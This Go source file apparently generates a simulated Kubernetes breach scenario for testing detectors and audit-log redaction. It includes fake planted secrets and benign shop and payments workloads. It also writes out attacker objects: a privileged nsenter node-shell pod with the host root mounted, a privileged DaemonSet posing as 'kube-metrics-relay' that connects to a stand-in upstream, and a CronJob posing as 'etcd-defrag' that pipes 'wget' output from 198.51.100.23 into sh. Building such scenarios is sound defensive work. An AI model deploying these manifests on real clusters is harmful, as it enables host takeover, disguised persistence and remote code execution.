package main

import (
	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/utils/ptr"
)

// Planted secret values: obviously fake, realistic-looking, and without the
// prefixes of real providers' keys (sk_live_, whsec_, ghp_, AKIA…), which
// secret scanners on code hosts would flag. The audit
// policy records Secrets at Metadata only, so those never reach the log;
// payments-config is a ConfigMap that carries two of them (a real-world
// mistake, and configmap-with-credentials fires), so the recorded audit log
// holds them in plain text where the collector's redaction must remove them.
var plantedValues = []string{
	"scenario-planted-Pa55w0rd-7Qm2xK",                         // payments/payments-db password, and in payments-config DB_PASSWORD
	"scenario-planted-stripe-api-key-4eC39HqLyjWDarjtT1zdp7dc", // payments/stripe-api api-key, and in payments-config STRIPE_API_KEY
	"scenario-planted-stripe-webhook-R8aQm",                    // payments/stripe-api webhook-secret
	"scenario-planted-ledger-hmac-5b1f9e07c2d84a6e",            // payments/ledger-signing-key
	"scenario-planted-session-key-Zx81LmQ0",                    // shop/storefront-session
	"scenario-planted-smtp-Relay-Pw-31",                        // shop/smtp-relay
	"scenario-planted-registry-pull-9Hd2",                      // shop/registry-pull
}

// secretSpec is a Secret the admin creates: namespace key ("shop" or
// "payments"), name, type, data.
type secretSpec struct {
	where string
	name  string
	typ   corev1.SecretType
	data  map[string]string
}

var scenarioSecrets = []secretSpec{
	{"payments", "payments-db", corev1.SecretTypeOpaque, map[string]string{"username": "payments_app", "password": plantedValues[0]}},
	{"payments", "stripe-api", corev1.SecretTypeOpaque, map[string]string{"api-key": plantedValues[1], "webhook-secret": plantedValues[2]}},
	{"payments", "ledger-signing-key", corev1.SecretTypeOpaque, map[string]string{"hmac-key": plantedValues[3]}},
	{"payments", "payments-tls", corev1.SecretTypeOpaque, map[string]string{"ca.crt": "-----BEGIN CERTIFICATE-----\nMIIBscenarioPlaceholderCA\n-----END CERTIFICATE-----\n"}},
	{"shop", "storefront-session", corev1.SecretTypeOpaque, map[string]string{"session-key": plantedValues[4]}},
	{"shop", "smtp-relay", corev1.SecretTypeOpaque, map[string]string{"username": "no-reply@shop.example", "password": plantedValues[5]}},
	{"shop", "registry-pull", corev1.SecretTypeOpaque, map[string]string{"token": plantedValues[6]}},
}

// app describes one Deployment of the benign workload.
type app struct {
	where    string // "shop" or "payments"
	name     string
	image    string
	replicas int32
	port     int32
	secret   string // a Secret mounted as a volume ("" = none)
	bind     bool   // false: the pods stay pending (FailedScheduling)
	mem      string
}

var apps = []app{
	{"shop", "storefront", "ghcr.io/acme-shop/storefront:2.14.0", 3, 8080, "storefront-session", true, "256Mi"},
	{"shop", "cart", "ghcr.io/acme-shop/cart:1.9.3", 2, 8080, "", true, "128Mi"},
	{"shop", "catalog", "ghcr.io/acme-shop/catalog:3.2.1", 2, 8080, "", true, "192Mi"},
	{"payments", "payments-api", "ghcr.io/acme-pay/payments-api:4.7.0", 2, 8443, "payments-db", true, "512Mi"},
	{"payments", "ledger", "ghcr.io/acme-pay/ledger:1.3.0", 1, 9090, "ledger-signing-key", false, "24Gi"},
}

func labels(name string) map[string]string {
	return map[string]string{"app.kubernetes.io/name": name, "app.kubernetes.io/part-of": "acme"}
}

func deployment(ns string, a app) *appsv1.Deployment {
	c := corev1.Container{
		Name: a.name, Image: a.image,
		Ports:     []corev1.ContainerPort{{Name: "http", ContainerPort: a.port}},
		Resources: resources("100m", a.mem),
		SecurityContext: &corev1.SecurityContext{
			RunAsNonRoot: ptr.To(true), AllowPrivilegeEscalation: ptr.To(false), ReadOnlyRootFilesystem: ptr.To(true),
			Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}},
		},
		ReadinessProbe: &corev1.Probe{ProbeHandler: corev1.ProbeHandler{HTTPGet: &corev1.HTTPGetAction{Path: "/healthz", Port: intstr.FromString("http")}}, PeriodSeconds: 10},
	}
	spec := corev1.PodSpec{
		Containers:         []corev1.Container{c},
		ServiceAccountName: "default",
		SecurityContext:    &corev1.PodSecurityContext{SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault}},
	}
	if a.secret != "" {
		spec.Volumes = []corev1.Volume{{Name: "credentials", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: a.secret}}}}
		spec.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "credentials", MountPath: "/var/run/secrets/app", ReadOnly: true}}
	}
	return &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: a.name, Namespace: ns, Labels: labels(a.name),
			Annotations: map[string]string{"deployment.kubernetes.io/revision": "1"}},
		Spec: appsv1.DeploymentSpec{
			Replicas: ptr.To(a.replicas),
			Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app.kubernetes.io/name": a.name}},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels(a.name)}, Spec: spec},
		},
	}
}

func service(ns, name string, port int32, typ corev1.ServiceType) *corev1.Service {
	return &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: labels(name)},
		Spec: corev1.ServiceSpec{
			Type:     typ,
			Selector: map[string]string{"app.kubernetes.io/name": name},
			Ports:    []corev1.ServicePort{{Name: "http", Port: 80, TargetPort: intstr.FromInt32(port)}},
		},
	}
}

// nodeShell is the attacker's pod: everything the pod-security rules look
// for, as node-shell tools make it.
func nodeShell(ns, name, node, image string) *corev1.Pod {
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: map[string]string{"app.kubernetes.io/name": "payments-api", "debug": "true"}},
		Spec: corev1.PodSpec{
			NodeName:    node, // pinned: no scheduler decision, no scheduling event
			HostNetwork: true, HostPID: true, HostIPC: true,
			SecurityContext: &corev1.PodSecurityContext{
				RunAsUser:      ptr.To(int64(0)),
				SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined},
				Sysctls:        []corev1.Sysctl{{Name: "kernel.core_pattern", Value: "|/var/tmp/.x %p"}},
			},
			Containers: []corev1.Container{{
				Name: "shell", Image: image,
				Command: []string{"nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "sleep", "infinity"},
				SecurityContext: &corev1.SecurityContext{
					Privileged: ptr.To(true), AllowPrivilegeEscalation: ptr.To(true), RunAsUser: ptr.To(int64(0)),
					Capabilities: &corev1.Capabilities{Add: []corev1.Capability{"SYS_ADMIN", "SYS_PTRACE"}},
				},
				VolumeMounts: []corev1.VolumeMount{{Name: "host", MountPath: "/host"}},
			}},
			Volumes:     []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
			Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
		},
	}
}

// relayDaemonSet is the attacker's persistence: a privileged agent on every
// node, named to blend in with kube-system.
func relayDaemonSet(image string) *appsv1.DaemonSet {
	l := map[string]string{"k8s-app": "kube-metrics-relay"}
	return &appsv1.DaemonSet{
		ObjectMeta: metav1.ObjectMeta{Name: "kube-metrics-relay", Namespace: "kube-system", Labels: l},
		Spec: appsv1.DaemonSetSpec{
			Selector: &metav1.LabelSelector{MatchLabels: l},
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: l},
				Spec: corev1.PodSpec{
					ServiceAccountName: "metrics-relay",
					HostNetwork:        true, HostPID: true,
					Containers: []corev1.Container{{
						Name: "relay", Image: image,
						Args:            []string{"--listen=:10256", "--upstream=wss://198.51.100.23:443/c"},
						SecurityContext: &corev1.SecurityContext{Privileged: ptr.To(true)},
						VolumeMounts:    []corev1.VolumeMount{{Name: "root", MountPath: "/rootfs"}},
					}},
					Volumes:     []corev1.Volume{{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
					Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
				},
			},
		},
	}
}

func defragCronJob() *batchv1.CronJob {
	return &batchv1.CronJob{
		ObjectMeta: metav1.ObjectMeta{Name: "etcd-defrag", Namespace: "kube-system"},
		Spec: batchv1.CronJobSpec{
			Schedule: "*/10 * * * *",
			JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
				RestartPolicy: corev1.RestartPolicyOnFailure,
				Containers: []corev1.Container{{
					Name: "defrag", Image: "alpine:latest",
					Command: []string{"/bin/sh", "-c", "wget -qO- http://198.51.100.23/k.sh | sh"},
				}},
			}}}},
		},
	}
}
